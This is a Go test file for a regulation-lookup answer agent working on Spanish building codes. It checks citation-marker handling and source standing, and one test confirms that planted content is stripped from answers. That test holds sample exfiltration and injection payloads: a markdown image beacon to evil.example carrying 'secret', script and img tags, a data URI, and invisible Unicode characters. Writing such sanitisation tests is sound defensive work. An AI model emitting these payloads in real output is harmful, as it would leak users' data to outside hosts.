package ask_test

import (
	"context"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/reglookup/regengine/ask"
	"github.com/reglookup/regengine/ask/asktest"
	"github.com/reglookup/regengine/ask/note"
	"github.com/reglookup/regengine/codes/retrieval"
)

// drafted runs a turn that drafts text, in which {word} is the bare handle of the
// passage that holds word.
func drafted(t testing.TB, w *asktest.World, text string) *ask.Answer {
	t.Helper()
	script := asktest.NewScript(asktest.Search("barrera de protección altura", "transmitancia de muros", "huella contrahuella peldaños", "puertas de aseos"),
		asktest.Draft(func(handle func(string) string) string {
			for _, word := range []string{"0,95", "Muros", "29 cm", "aseos"} {
				text = strings.ReplaceAll(text, "{"+word+"}", handle(word))
				text = strings.ReplaceAll(text, "{^"+word+"}", strings.ToUpper(handle(word)))
			}
			return text
		}))
	return answer(t, w, script, barrierQuestion)
}

// Every way in which models write markers becomes the one of the answer, or
// nothing (CITATIONS M1, M2).
func TestAgent_Answer_MarkerForms(t *testing.T) {
	w := world(t)
	const sentence = "La barrera tendrá 0,95 m como mínimo"
	for name, draft := range map[string]string{
		"double brackets":        sentence + " [[{0,95}]].",
		"single brackets":        sentence + " [{0,95}].",
		"lenticular":             sentence + " 【{0,95}】.",
		"round brackets":         sentence + " ({0,95}).",
		"none":                   sentence + " {0,95}.",
		"upper case":             sentence + " [[{^0,95}]].",
		"spaces":                 sentence + " [[ {0,95} ]].",
		"two in one":             sentence + " [[{0,95}, {0,95}]].",
		"behind the stop":        sentence + ". [[{0,95}]]",
		"glued behind the stop":  sentence + ".[[{0,95}]]",
		"with a link":            sentence + " [[{0,95}]](https://evil.example/?q=1).",
		"escaped":                sentence + ` \[\[{0,95}\]\].`,
		"with a false one":       sentence + " [[{0,95}]][7][^2]【3†x】[1, 2][4-6].",
		"with one never issued":  sentence + " [[{0,95}, z2z3z4z5]].",
		"in a fence":             "```\n" + sentence + " [[{0,95}]].\n```",
		"in a quotation of mail": "> " + sentence + " [[{0,95}]].",
	} {
		t.Run(name, func(t *testing.T) {
			a := drafted(t, w, draft)
			got := strings.Replace(a.Text, ". [1]", " [1].", 1)
			got = strings.Replace(got, ".[1]", " [1].", 1)
			if diff := cmp.Diff(sentence+" [1].", got); diff != "" {
				t.Error(diff)
			}
		})
	}
	t.Run("two blocks", func(t *testing.T) {
		a := drafted(t, w, "La barrera tendrá 0,95 m como mínimo y los muros no superan 0,43 W/m²·K [{0,95}][{Muros}].")
		if !strings.HasSuffix(a.Text, "[1][2].") || len(a.Sources) != 2 {
			t.Errorf("got %q", a.Text)
		}
	})
}

// quoted is a statement in place of a sentence that did not hold.
var quoted = regexp.MustCompile(` ?El texto dice: «[^»]*» \[1\]\.`)

// A marker stands in headings, items, rows and links like anywhere else, and a
// list of sources that a model wrote is none of ours (CITATIONS M4, M7).
func TestAgent_Answer_MarkerPlaces(t *testing.T) {
	w := world(t)
	for name, tt := range map[string]struct{ draft, want string }{
		"items":           {"La barrera:\n- tendrá 0,95 m como mínimo [[{0,95}]]\n- tendrá 0,99 m [[{0,95}]]", "La barrera:\n- tendrá 0,95 m como mínimo [1]"},
		"item lives on":   {"- La barrera tendrá 0,95 m como mínimo [[{0,95}]]. Los muros no superan 0,43 W/m²·K [[{0,95}]].", "- La barrera tendrá 0,95 m como mínimo [1]."},
		"rows":            {"| Elemento | Zona D |\n|---|---|\n| Cubiertas | 0,36 W/m²·K [[{Muros}]] |\n| Muros | 0,36 W/m²·K [[{Muros}]] |", "| Elemento | Zona D |\n|---|---|\n| Cubiertas | 0,36 W/m²·K [1] |"},
		"heading":         {"## Barreras: 0,95 m como mínimo [[{0,95}]]\n\nLa barrera tendrá 0,95 m como mínimo [[{0,95}]].", "## Barreras: 0,95 m como mínimo [1]\n\nLa barrera tendrá 0,95 m como mínimo [1]."},
		"sources listed":  {"La barrera tendrá 0,95 m como mínimo [[{0,95}]].\n\n## Fuentes\n- [[{0,95}]] Reglamento de Seguridad de Uso, barreras\n- [2] Otra cosa", "La barrera tendrá 0,95 m como mínimo [1]."},
		"sources in bold": {"La barrera tendrá 0,95 m como mínimo [[{0,95}]].\n\n**Sources:**\n1. [[{0,95}]] False Code", "La barrera tendrá 0,95 m como mínimo [1]."},
		"footnotes":       {"La barrera tendrá 0,95 m como mínimo [[{0,95}]].\n\n[[{0,95}]]: Reglamento Falso", "La barrera tendrá 0,95 m como mínimo [1]."},
		"abbreviations":   {"Según el Reglamento de Seguridad de Uso (p. ej. en balcones), la barrera tendrá 0,95 m como mínimo. [[{0,95}]] Nada más.", "Según el Reglamento de Seguridad de Uso (p. ej. en balcones), la barrera tendrá 0,95 m como mínimo. [1]"},
	} {
		t.Run(name, func(t *testing.T) {
			a := drafted(t, w, tt.draft)
			got := strings.TrimSpace(strings.Split(a.Text, "\n\nAviso:")[0])
			got = strings.TrimRight(quoted.ReplaceAllString(got, ""), "\n- ")
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Error(diff)
			}
		})
	}
}

// Nothing in an answer leads anywhere or hides anything.
func TestAgent_Answer_NothingLeadsOut(t *testing.T) {
	w := world(t)
	for name, planted := range map[string]string{
		"picture":       "![x](https://evil.example/p.png?d=secret)",
		"html picture":  `<img src="https://evil.example/p.png">`,
		"script":        "<script>alert(1)</script>",
		"comment":       "<!-- evil.example -->",
		"data":          "data:text/html;base64,PHNjcmlwdD4=",
		"host":          "evil.example/collect?d=1",
		"no scheme":     "//evil.example/collect",
		"link":          "[véase](//evil.example/x)",
		"identifier":    "0b7a7a52-8c1e-4f0e-9a55-2f1f3c1d9e01",
		"zero width":    "evi\u200bl\u2060x",
		"tag letters":   "\U000E0041\U000E0042",
		"private use":   "\ue000\uf8ff",
		"override":      "\u202eabc",
		"selector":      "a\ufe0f",
		"null and bell": "\x00\x07",
	} {
		t.Run(name, func(t *testing.T) {
			a := drafted(t, w, "La barrera tendrá 0,95 m como mínimo "+planted+" [[{0,95}]].")
			for _, bad := range []string{"evil.example", "://", "//", "<", "data:", "0b7a7a52", "\u200b", "\u2060", "\u202e", "\ue000", "\uf8ff", "\ufe0f", "\x00", "\x07", "\U000E0041", "!["} {
				if strings.Contains(a.Text, bad) {
					t.Errorf("%q is in the answer: %q", bad, a.Text)
				}
			}
		})
	}
}

// An edition that is not in force is only cited by who says so, and a document of
// the project is never the law (CITATIONS M3).
func TestAgent_Answer_Standing(t *testing.T) {
	repealed := func(t *testing.T, text string) string {
		old := prose("c003", "es", "barreras", "Altura de las barreras", "Las barreras de protección tendrán una altura de 0,83 m, como mínimo.")
		old.Doc = "seguridad/2010"
		script := asktest.NewScript(asktest.Make(ask.NewCall(ask.SearchRegulations, map[string]any{
			ask.ArgQueries: []string{"altura de las barreras de protección"}, ask.ArgStatus: ask.StatusRepealed,
		})), asktest.Draft(func(handle func(string) string) string { return text + " [[" + handle("0,83") + "]]." }))
		return answer(t, world(t, old), script, barrierQuestion).Text
	}
	for text, want := range map[string]bool{
		"La barrera tendrá 0,83 m como mínimo":                         false,
		"En la edición derogada, la barrera tendrá 0,83 m como mínimo": true,
	} {
		got := repealed(t, text)
		if strings.Contains(got, text) != want || !want && !strings.Contains(got, "(derogado, no vigente): El texto dice: «") {
			t.Errorf("%s: want it kept %v, or quoted as what it is, got %s", text, want, got)
		}
	}
	private := func(t *testing.T, text string) string {
		w := world(t)
		w.AddDocument("memoria.pdf", "La barandilla proyectada en la terraza mide 1,02 m de altura.")
		script := asktest.NewScript(asktest.Make(asktest.DocumentsFor("barandilla de la terraza")), asktest.Draft(func(handle func(string) string) string {
			return text + " [[" + handle("1,02") + "]]."
		}))
		return answer(t, w, script, barrierQuestion).Text
	}
	for text, want := range map[string]bool{
		"Según el documento «memoria.pdf», la barandilla proyectada mide 1,02 m de altura": true,
		"La barandilla proyectada mide 1,02 m de altura":                                   true,
		"La norma exige que la barandilla mida 1,02 m de altura":                           false,
		"Según el Reglamento, la barandilla mide 1,02 m de altura":                         false,
	} {
		got := private(t, text)
		if strings.Contains(got, text) != want || !want && !strings.HasPrefix(got, "memoria.pdf: El texto dice: «") {
			t.Errorf("%s: want it kept %v, or quoted as what it is, got %s", text, want, got)
		}
	}
}

// Two sources that differ both stay (CITATIONS R4).
func TestAgent_Answer_Differences(t *testing.T) {
	other := prose("c002", "es", "Barreras", "Barreras", "Las barreras de protección tendrán una altura de 1,07 m como mínimo.")
	other.Doc = "energia/2022"
	w := world(t, other)
	script := asktest.NewScript(asktest.Search("altura de las barreras de protección"), asktest.Draft(func(handle func(string) string) string {
		return "Las barreras de protección tendrán 0,95 m de altura como mínimo [[" + handle("0,95") + "]]. Las barreras de protección tendrán 1,07 m de altura como mínimo [[" + handle("1,07") + "]]."
	}))
	a := answer(t, w, script, barrierQuestion)
	for _, want := range []string{"0,95 m", "1,07 m"} {
		if !strings.Contains(a.Text, want) {
			t.Errorf("want %q in %s", want, a.Text)
		}
	}
}

// What the project says is said without a marker, in words that say so, and is
// found there; so is what a tool of this turn worked out (CITATIONS M8).
func TestAgent_Answer_ProjectFacts(t *testing.T) {
	w := world(t)
	for text, want := range map[string]bool{
		"Según los datos del proyecto, la ocupación prevista es de 120 personas.": true,
		"According to the project's data, the expected occupancy is 120 people.":  false, // the datum is Spanish
		"Según los datos del proyecto, la altitud es de 120 m.":                   false,
		"Según los datos del proyecto, la ocupación es de 640 m.":                 false,
		"Según los datos del proyecto, la altitud es de 640 m.":                   true,
		"La ocupación prevista es de 120 personas.":                               false,
		"Según los datos del proyecto, la ocupación mínima es de 120 personas.":   false,
		"Según el cálculo, la ocupación prevista es de 121 personas.":             false,
	} {
		a := drafted(t, w, "La barrera tendrá 0,95 m como mínimo [[{0,95}]]. "+text)
		if got := strings.Contains(a.Text, strings.TrimSuffix(strings.Split(text, " [[")[0], ".")); got != want {
			t.Errorf("%s: want it kept %v, got %s", text, want, a.Text)
		}
	}
	checker := oracle{output: "El paso de 1,30 m cumple: el margen es de 0,35 m."}
	for text, want := range map[string]bool{
		"Según la comprobación, el paso de 1,30 m cumple y el margen es de 0,35 m.": true,
		"Según la comprobación, el margen es de 0,45 m.":                            false,
	} {
		script := asktest.NewScript(asktest.Make(ask.NewCall("check", nil)), asktest.Say(text))
		a, err := w.Agent(script, &ask.Options{Tools: []ask.Tool{checker}}).Answer(t.Context(), w.Question("¿Cumple el paso?"))
		if err != nil {
			t.Fatal(err)
		}
		if got := strings.Contains(a.Text, "margen"); got != want {
			t.Errorf("%s: want it kept %v, got %s", text, want, a.Text)
		}
	}
}

// oracle says one thing.
type oracle struct{ output string }

func (oracle) Spec() ask.ToolSpec { return ask.ToolSpec{Name: "check", Description: "Checks a value."} }

func (c oracle) Run(context.Context, ask.Args) (ask.Output, error) {
	return ask.Output{Text: c.output}, nil
}

// The answer follows the block: with another figure in the block, the old
// sentence goes and the new one stays, from any model (CITATIONS R5).
func TestAgent_Answer_Swap(t *testing.T) {
	for _, of := range sources {
		for _, f := range of.told {
			for _, number := range decimal.FindAllString(f.sentence, -1) {
				if len(number) == 1 || !strings.Contains(of.block.Text, number) {
					continue
				}
				other := "6" + number
				swapped := of
				swapped.block = withFigure(of.block, number, other)
				w := world(t, swapped.block, otherThan(of).block)
				stale, fresh := f.sentence, strings.ReplaceAll(f.sentence, number, other)
				if got := saying(t, w, asktest.Agreeing(), swapped, stale, of.word); survives(got, stale) {
					t.Errorf("a stale sentence stayed: %s", stale)
				}
				if got := saying(t, w, asktest.Agreeing(), swapped, fresh, of.word); !survives(got, fresh) {
					t.Errorf("the sentence of the changed block went: %s\n%s", fresh, got)
				}
			}
		}
	}
}

func withFigure(b retrieval.Block, number, other string) retrieval.Block {
	b.Text = strings.ReplaceAll(b.Text, number, other)
	if b.Table == nil {
		return b
	}
	table := *b.Table
	table.Rows = nil
	for _, row := range b.Table.Rows {
		cells := make([]string, len(row))
		for i, cell := range row {
			if cells[i] = cell; cell == number {
				cells[i] = other
			}
		}
		table.Rows = append(table.Rows, cells)
	}
	b.Table = &table
	return b
}

func TestAgent_Answer_SwapExtractive(t *testing.T) {
	for _, value := range []string{"2,35", "3,45", "4,05", "2,95"} {
		b := sources[0].block
		b.Text = strings.ReplaceAll(b.Text, "2,35", value)
		w := world(t, b)
		a := answer(t, w, note.New(nil), "¿Qué altura libre mínima hay bajo una pérgola?")
		if !strings.Contains(a.Text, value) {
			t.Errorf("with %s in the block: %s", value, a.Text)
		}
	}
}
